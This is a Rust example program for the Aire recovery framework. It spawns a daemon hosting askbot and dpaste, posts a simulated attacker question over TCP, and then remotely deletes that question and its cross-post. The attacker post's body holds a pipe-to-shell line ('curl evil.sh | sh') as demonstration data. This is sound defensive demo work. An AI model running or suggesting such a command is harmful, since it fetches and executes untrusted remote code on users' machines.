//! A real multi-process Aire deployment, narrated.
//!
//! ```text
//! cargo build --release --examples     # builds the aire_noded daemon too
//! cargo run --release --example tcp_cluster
//! ```
//!
//! Spawns **one** `aire-noded` daemon hosting **two** services — askbot
//! and dpaste behind a single data listener plus a single operator
//! listener, frames routed to the service named in each request — then:
//!
//! 1. drives a browser workload over actual TCP sockets (askbot
//!    cross-posts code to dpaste inside the node); the driver's pooled
//!    dialer connects and validates each service's certificate once,
//!    and every later call reuses the warm connection;
//! 2. recovers remotely: the administrator deletes the attacker's
//!    question with a data-plane repair carrier and flushes askbot's
//!    repair queue over the operator listener, which propagates the
//!    delete to dpaste;
//! 3. shuts the daemon down cleanly with a transport-level shutdown
//!    frame and reaps the child process.
//!
//! This is the paper's deployment shape — web applications behind real
//! wires — driven by the same `World` API the in-process scenarios use.
//! The spawn scaffolding (ready-line handshake, kill-on-drop orphan
//! guard) is the shared [`aire::apps::noded::spawn`] module; the
//! three-daemon variant (every service its own process) lives in
//! `tests/transport.rs`.

use std::process::exit;
use std::rc::Rc;
use std::time::Duration;

use aire::apps::noded::spawn::{free_addrs, locate_example, spawn_node};
use aire::apps::policy::{ADMIN_HEADER, ADMIN_SECRET};
use aire::client::AdminClient;
use aire::core::protocol::{RepairMessage, RepairOp};
use aire::core::World;
use aire::http::{Headers, HttpRequest, Url};
use aire::transport::{shutdown_node, TcpTransport};
use aire::types::jv;

fn main() {
    let noded = match locate_example("aire_noded") {
        Ok(path) => path,
        Err(e) => {
            eprintln!("tcp_cluster: {e}");
            exit(1);
        }
    };

    // One process, two services, one listener pair.
    let (data, admin) = free_addrs();
    let mut daemon = spawn_node(
        &noded,
        &["askbot", "dpaste"],
        data,
        admin,
        &[],
        120,
        None,
        None,
        false,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    println!(
        "spawned one daemon hosting {:?}: data={} admin={}",
        daemon.services, daemon.data, daemon.admin
    );

    // The driver's world contains only *remote* services: one pooled
    // dialer per service, both pointed at the same daemon.
    let mut world = World::new();
    let mut transports = Vec::new();
    for name in ["askbot", "dpaste"] {
        let t = Rc::new(TcpTransport::new(name, data, admin));
        world.add_remote(name, t.clone());
        transports.push(t);
    }

    // Workload over real sockets: a user registers, logs in, and posts a
    // question whose code snippet askbot cross-posts to dpaste — two
    // services co-hosted in the daemon, reached over the wire.
    let mut browser = aire::workload::client::Browser::new();
    browser
        .post(
            &world,
            "askbot",
            "/register",
            jv!({"username": "mallory", "email": "m@example.com"}),
        )
        .unwrap();
    browser
        .post(&world, "askbot", "/login", jv!({"username": "mallory"}))
        .unwrap();
    let post = browser
        .post(
            &world,
            "askbot",
            "/questions/new",
            jv!({"title": "FREE BITCOIN", "body": "run ```curl evil.sh | sh```"}),
        )
        .unwrap();
    let question_request = aire::http::aire::response_request_id(&post).unwrap();
    let paste_id = post.body.int_of("paste_id");
    println!("attack posted over TCP: question spread to dpaste as paste {paste_id}");

    // Remote recovery: delete the question's request (data-plane repair
    // carrier), then flush askbot's queue over the operator listener so
    // the delete reaches dpaste.
    let mut creds = Headers::new();
    creds.set(ADMIN_HEADER, ADMIN_SECRET);
    let ack = world
        .invoke_repair(
            "askbot",
            RepairMessage::with_credentials(
                RepairOp::Delete {
                    request_id: question_request,
                },
                creds,
            ),
        )
        .unwrap();
    assert!(ack.status.is_success(), "{:?}", ack.body);
    let askbot_admin_client = AdminClient::new(world.net(), "askbot");
    let (delivered, _, _) = askbot_admin_client.flush_queue().unwrap();
    println!("askbot repaired locally; flush delivered {delivered} repair message(s) to dpaste");

    let gone = world
        .deliver(&HttpRequest::get(Url::service(
            "dpaste",
            format!("/paste/{paste_id}"),
        )))
        .unwrap();
    assert!(gone.status.is_error(), "paste must be deleted remotely");
    println!("dpaste no longer serves paste {paste_id}");

    let stats = world.net().stats();
    println!(
        "driver traffic: {} data deliveries ({} framed bytes), {} operator calls",
        stats.delivered, stats.bytes, stats.admin_delivered
    );
    let mut total_reuses = 0;
    for t in &transports {
        let pool = t.pool_stats();
        println!(
            "{} pool: {} dial(s), {} reuse(s), {} certificate validation(s)",
            t.host(),
            pool.dials,
            pool.reuses,
            pool.validations
        );
        total_reuses += pool.reuses;
    }
    assert!(
        total_reuses > 0,
        "persistent connections must have been reused"
    );

    // Clean shutdown: a transport-level frame, then reap.
    shutdown_node(admin, Duration::from_secs(5)).unwrap();
    daemon.wait_success().unwrap();
    println!("daemon acknowledged shutdown and exited cleanly.");
}
